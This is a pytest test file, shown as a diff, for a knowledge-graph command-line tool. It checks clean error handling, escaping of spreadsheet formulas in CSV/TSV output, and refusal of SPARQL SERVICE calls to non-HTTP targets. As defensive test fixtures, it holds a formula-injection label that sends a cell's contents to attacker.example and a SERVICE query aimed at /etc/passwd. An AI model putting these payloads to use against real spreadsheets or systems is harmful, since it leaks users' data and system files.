@@ -1,0 +1,262 @@
+"""Bad input is refused cleanly: one ``Error:`` line naming the file, line or argument, exit 2,
+no traceback, and nothing changed. Each case carries the broken input it must catch."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from kg.cli import cli
+from kg.query import QueryResult, format_result, neutralise_cell
+
+ROOT = Path(__file__).resolve().parent.parent
+RECORD = "cases/seed-dauletbayev-2017.yaml"
+HOSTILE_LABEL = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")'
+
+
+def run(*args: str):
+    return CliRunner().invoke(cli, list(args))
+
+
+def assert_one_line(result, *needles: str, code: int = 2) -> str:
+    """Exit code, one ``Error:`` line as the last stderr line, every needle in it, no traceback."""
+    assert result.exit_code == code, result.output
+    err = result.stderr
+    lines = [line for line in err.strip().splitlines() if line]
+    assert lines and lines[-1].startswith("Error: "), err
+    assert [line for line in lines if line.startswith("Error")] == lines[-1:], err
+    for needle in needles:
+        assert needle in lines[-1], err
+    assert "Traceback" not in result.output and "Traceback" not in err
+    return lines[-1]
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A data folder whose reference data carries a label that is a spreadsheet formula."""
+    root = tmp_path_factory.mktemp("hostile")
+    data = root / "data"
+    shutil.copytree(ROOT / "data", data)
+    (data / "reference" / "hostile.ttl").write_text(
+        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
+        f"<https://example.org/h1> rdfs:label {HOSTILE_LABEL!r} .\n".replace("'", '"""'),
+        encoding="utf-8",
+    )
+    result = run("build", "--store", str(root / "store"), "--data", str(data))
+    assert result.exit_code == 0, result.output
+    return root
+
+
+@pytest.fixture()
+def broken_data(tmp_path: Path) -> Path:
+    dest = tmp_path / "data"
+    shutil.copytree(ROOT / "data", dest)
+    return dest
+
+
+def _build(data: Path, store: Path):
+    return run("build", "--store", str(store), "--data", str(data))
+
+
+# -- spreadsheet formulas ------------------------------------------------------------------
+
+
+def test_csv_cells_cannot_be_formulas(hostile: Path, tmp_path: Path) -> None:
+    rq = tmp_path / "labels.rq"
+    rq.write_text(
+        "# title: Labels of example.org\n# question: q\n# returns: ?s ?label\n"
+        "PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>\n"
+        "SELECT ?s ?label WHERE { ?s rdfs:label ?label "
+        'FILTER(STRSTARTS(STR(?s), "https://example.org/")) }\n',
+        encoding="utf-8",
+    )
+    store = str(hostile / "store")
+    for fmt, sep in (("csv", ","), ("tsv", "\t")):
+        result = run("query", "--store", store, str(rq), "--format", fmt)
+        assert result.exit_code == 0, result.output
+        lines = result.stdout.splitlines()
+        assert lines[0] == f"s{sep}label"
+        assert HOSTILE_LABEL not in [c.strip('"') for c in lines[1].split(sep)]
+        assert "'=HYPERLINK(" in lines[1], lines[1]
+    # JSON is for programs: the label comes back exactly as stored
+    result = run("query", "--store", store, str(rq), "--format", "json")
+    assert HOSTILE_LABEL in result.stdout.replace('\\"', '"')
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd", "'+cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("-3", "-3"),
+        ("+4.5e3", "+4.5e3"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_neutralise_cell(cell: str, expected: str) -> None:
+    assert neutralise_cell(cell) == expected
+
+
+def test_header_cells_are_neutralised_too() -> None:
+    from rdflib import Literal
+
+    out = format_result(QueryResult(["x"], [(Literal("=2*3"),), (Literal(-7),)]), "csv")
+    assert out.splitlines() == ["x", "'=2*3", "-7"]
+
+
+# -- query parameters and SERVICE -----------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "value", ["<http://a b>", "<https://example.org/x>y>", "http://a b", "akg:x>y", "<>"]
+)
+def test_iri_parameter_that_is_not_an_iri(hostile: Path, value: str) -> None:
+    result = run("query", "cq01", "--store", str(hostile / "store"), "-p", f"defender={value}")
+    assert_one_line(result, "?defender", "is not a valid IRI")
+
+
+def test_service_to_a_file_is_refused_even_with_allow_network(
+    hostile: Path, tmp_path: Path
+) -> None:
+    rq = tmp_path / "svc.rq"
+    rq.write_text("SELECT * WHERE {\n  SERVICE <file:///etc/passwd> { ?s ?p ?o }\n}\n")
+    result = run("query", "--store", str(hostile / "store"), str(rq), "--allow-network")
+    assert_one_line(result, f"{rq}:2", "SERVICE <file:///etc/passwd>", "only http and https")
+
+
+def test_service_that_fails_while_results_are_read(hostile: Path, tmp_path: Path) -> None:
+    rq = tmp_path / "svc.rq"
+    # Oxigraph refuses port 1 before connecting, so no traffic leaves the test
+    rq.write_text("SELECT * WHERE { SERVICE <http://127.0.0.1:1/sparql> { ?s ?p ?o } }\n")
+    result = run("query", "--store", str(hostile / "store"), str(rq), "--allow-network")
+    assert_one_line(result, str(rq), "query failed")
+
+
+# -- case records ---------------------------------------------------------------------------
+
+
+def _edit_record(data: Path, old: str, new: str) -> Path:
+    path = data / RECORD
+    text = path.read_text(encoding="utf-8")
+    assert old in text
+    path.write_text(text.replace(old, new, 1), encoding="utf-8")
+    return path
+
+
+def test_date_that_yaml_cannot_build(broken_data: Path, tmp_path: Path) -> None:
+    path = _edit_record(broken_data, "  date: 2017-11-22\n", "  date: 2017-13-45\n")
+    result = _build(broken_data, tmp_path / "store")
+    assert_one_line(result, f"{path}:6:", "'2017-13-45' is not a date")
+    assert not (tmp_path / "store").exists()
+
+
+def test_section_that_is_not_a_list(broken_data: Path, tmp_path: Path) -> None:
+    path = broken_data / RECORD
+    text = path.read_text(encoding="utf-8")
+    start, end = text.index("persons:\n"), text.index("organisations:\n")
+    line = text[:start].count("\n") + 1
+    path.write_text(text[:start] + "persons: 42\n" + text[end:], encoding="utf-8")
+    result = _build(broken_data, tmp_path / "store")
+    assert_one_line(result, f"{path}:{line}: persons: should be a list")
+
+
+def test_evidence_entry_that_is_not_a_mapping(broken_data: Path, tmp_path: Path) -> None:
+    path = _edit_record(
+        broken_data, "  evidence:\n  - quote:", "  evidence:\n  - just text\n  - quote:"
+    )
+    result = _build(broken_data, tmp_path / "store")
+    assert_one_line(result, str(path), "evidence.0: should be a mapping")
+
+
+def test_record_over_the_size_limit(
+    broken_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("KG_MAX_RECORD_BYTES", "1k")
+    result = _build(broken_data, tmp_path / "store")
+    assert_one_line(result, RECORD.split("/")[1], "limit", "KG_MAX_RECORD_BYTES")
+
+
+# -- reference files ------------------------------------------------------------------------
+
+
+def test_reference_turtle_with_a_space_in_an_iri(broken_data: Path, tmp_path: Path) -> None:
+    bad = broken_data / "reference" / "bad.ttl"
+    bad.write_text(
+        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n\n"
+        '<http://example.org/a b> rdfs:label "x" .\n',
+        encoding="utf-8",
+    )
+    result = _build(broken_data, tmp_path / "store")
+    assert_one_line(result, str(bad), "line 3", "Invalid IRI")
+
+
+# -- stores and outputs ---------------------------------------------------------------------
+
+
+def test_corrupt_store(hostile: Path, tmp_path: Path) -> None:
+    store = tmp_path / "corrupt"
+    shutil.copytree(hostile / "store", store)
+    for f in store.iterdir():
+        if f.name.startswith("MANIFEST") or f.suffix == ".sst":
+            f.write_bytes(os.urandom(100))
+    for args in (["stats"], ["query", "cq01"], ["export"]):
+        result = run(args[0], "--store", str(store), *args[1:])
+        assert_one_line(result, str(store), "cannot open the store")
+
+
+def test_export_into_a_path_whose_parent_is_a_file(hostile: Path, tmp_path: Path) -> None:
+    (tmp_path / "afile").write_text("x")
+    out = tmp_path / "afile" / "x.ttl"
+    result = run("export", "--store", str(hostile / "store"), "-o", str(out))
+    assert_one_line(result, str(out), "is a file")
+    assert (tmp_path / "afile").read_text() == "x"
+
+
+def test_build_into_a_store_path_that_is_a_file(tmp_path: Path) -> None:
+    (tmp_path / "store").write_text("x")
+    result = run("build", "--store", str(tmp_path / "store"))
+    assert_one_line(result, str(tmp_path / "store"), "is not an appeals-kg store")
+
+
+def test_serve_on_an_impossible_port() -> None:
+    result = run("serve", "--port", "99999")
+    assert_one_line(result, "--port", "99999")
+
+
+def test_build_into_a_read_only_folder(hostile: Path) -> None:
+    """Run as an unprivileged user when the tests run as root, who may write anywhere."""
+    folder = Path(tempfile.mkdtemp(prefix="kg-ro-"))
+    try:
+        shutil.copytree(hostile / "store", folder / "store")
+        before = sorted(p.name for p in (folder / "store").iterdir())
+        for path in [folder / "store", *(folder / "store").iterdir()]:
+            os.chmod(path, 0o755 if path.is_dir() else 0o644)
+        os.chmod(folder, 0o555)
+        cmd = [sys.executable, "-m", "kg.cli", "build", "--store", str(folder / "store")]
+        if os.geteuid() == 0:
+            os.chmod(folder.parent, os.stat(folder.parent).st_mode)  # /tmp: world-traversable
+            cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *cmd]
+        proc = subprocess.run(
+            cmd, cwd=ROOT, capture_output=True, text=True, timeout=300, check=False
+        )
+        assert proc.returncode == 2, proc.stderr
+        lines = proc.stderr.strip().splitlines()
+        assert lines[-1].startswith("Error: "), proc.stderr
+        assert str(folder / "store") in lines[-1] and "cannot write" in lines[-1], proc.stderr
+        assert "Traceback" not in proc.stderr
+        assert sorted(p.name for p in (folder / "store").iterdir()) == before
+    finally:
+        os.chmod(folder, 0o755)
+        shutil.rmtree(folder)
